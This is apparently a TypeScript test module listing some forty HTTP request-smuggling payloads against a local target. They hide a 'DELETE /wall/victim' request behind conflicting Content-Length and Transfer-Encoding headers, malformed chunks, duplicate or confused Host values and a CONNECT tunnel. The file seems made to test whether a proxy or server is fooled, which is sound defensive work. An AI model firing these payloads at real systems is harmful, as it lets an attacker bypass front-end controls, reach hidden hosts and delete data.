/**
 * Requests within requests. Each carries `DELETE /wall/victim`, and a proxy in front would see one request; whoever
 * answers twice, or deletes, was taken in.
 */
import type { Attack } from './attack.js';

const INNER = 'DELETE /wall/victim HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n';
const CHUNKED = `0\r\n\r\n${INNER}`;

const put = (lines: readonly string[], body: string, version = 'HTTP/1.1') =>
  [`PUT /wall/outer ${version}`, 'Host: 127.0.0.1', ...lines, '', body].join('\r\n');

const LENGTH = `Content-Length: ${CHUNKED.length}`;

const FRAMINGS: readonly (readonly [what: string, lines: readonly string[], body?: string])[] = [
  ['a length, then chunks', [LENGTH, 'Transfer-Encoding: chunked']],
  ['chunks, then a length', ['Transfer-Encoding: chunked', LENGTH]],
  ['chunked in capitals and a length', ['Transfer-Encoding: CHUNKED', LENGTH]],
  ['another name for chunked', ['Transfer-Encoding: xchunked', LENGTH]],
  ['chunked, identity', ['Transfer-Encoding: chunked, identity', LENGTH]],
  ['identity, chunked', ['Transfer-Encoding: identity, chunked', LENGTH]],
  ['chunked twice', ['Transfer-Encoding: chunked', 'Transfer-Encoding: chunked', LENGTH]],
  ['chunked and cow', ['Transfer-Encoding: chunked', 'Transfer-Encoding: cow', LENGTH]],
  ['a blank before the colon', ['Transfer-Encoding : chunked', LENGTH]],
  ['a tab before chunked', ['Transfer-Encoding:\tchunked', LENGTH]],
  ['a vertical tab before chunked', ['Transfer-Encoding:\x0bchunked', LENGTH]],
  ['quoted', ['Transfer-Encoding: "chunked"', LENGTH]],
  ['behind a line feed', [`X: y\nTransfer-Encoding: chunked`, LENGTH]],
  ['behind a carriage return', [`X: y\rTransfer-Encoding: chunked`, LENGTH]],
  ['in a folded line', ['X: y', ' Transfer-Encoding: chunked', LENGTH]],
  ['in an empty name', [': x', 'Transfer-Encoding: chunked', LENGTH]],
  ['two lengths', ['Content-Length: 0', LENGTH]],
  ['two lengths in one', [`Content-Length: 0, ${CHUNKED.length}`]],
  ['a length with a sign', [`Content-Length: +${CHUNKED.length}`]],
  ['a negative length', ['Content-Length: -1']],
  ['a length in hexadecimal', [`Content-Length: 0x${CHUNKED.length.toString(16)}`]],
  ['a length with a blank in it', ['Content-Length: 1 0']],
  ['a length beyond all numbers', ['Content-Length: 18446744073709551616']],
  ['a length with an underscore', ['Content_Length: 0', 'Transfer-Encoding: chunked', LENGTH]],
  ['a chunk beyond all numbers', ['Transfer-Encoding: chunked'], `ffffffffffffffff0\r\n${INNER}`],
  ['a negative chunk', ['Transfer-Encoding: chunked'], `-1\r\n${INNER}`],
  ['a chunk of no size', ['Transfer-Encoding: chunked'], `\r\n${INNER}`],
  ['a chunk whose end is another', ['Transfer-Encoding: chunked'], `1\r\nxx\r\n0\r\n\r\n${INNER}`],
  ['a chunk ended by a line feed', ['Transfer-Encoding: chunked'], `1\nx\n0\n\n${INNER}`],
  ['an extension with a line feed', ['Transfer-Encoding: chunked'], `1;a\nx\r\n0\r\n\r\n${INNER}`],
  ['a length among the trailers', ['Transfer-Encoding: chunked'], `0\r\nContent-Length: 99\r\n x\r\n\r\n${INNER}`],
];

export const smuggling: readonly Attack[] = [
  ...FRAMINGS.map(([what, lines, body = CHUNKED]) => ({ what, sends: put(lines, body) })),
  {
    what: 'chunks in HTTP/1.0',
    sends: put(['Transfer-Encoding: chunked', 'Connection: keep-alive'], CHUNKED, 'HTTP/1.0'),
  },
  {
    what: 'a target with a blank',
    sends: `GET /open/x HTTP/1.1\r\nX: GET /open/hidden HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n${INNER}`,
  },
  { what: 'two hosts', sends: `GET /open/a.jpg HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: vault.localhost\r\n\r\n${INNER}` },
  {
    what: 'a host in the target and another in a header',
    sends: 'GET http://vault.localhost/secret HTTP/1.1\r\nHost: open.localhost\r\nConnection: close\r\n\r\n',
  },
  {
    what: 'a user in the target',
    sends:
      'GET http://open.localhost@vault.localhost/secret HTTP/1.1\r\nHost: open.localhost\r\nConnection: close\r\n\r\n',
  },
  { what: 'a line feed in the target', sends: `GET /open/a.jpg\nX: y HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n${INNER}` },
  { what: 'another protocol', sends: `GET /open/a.jpg HTTP/2.0\r\nHost: 127.0.0.1\r\n\r\n${INNER}` },
  { what: 'a tunnel', sends: `CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n${INNER}` },
];
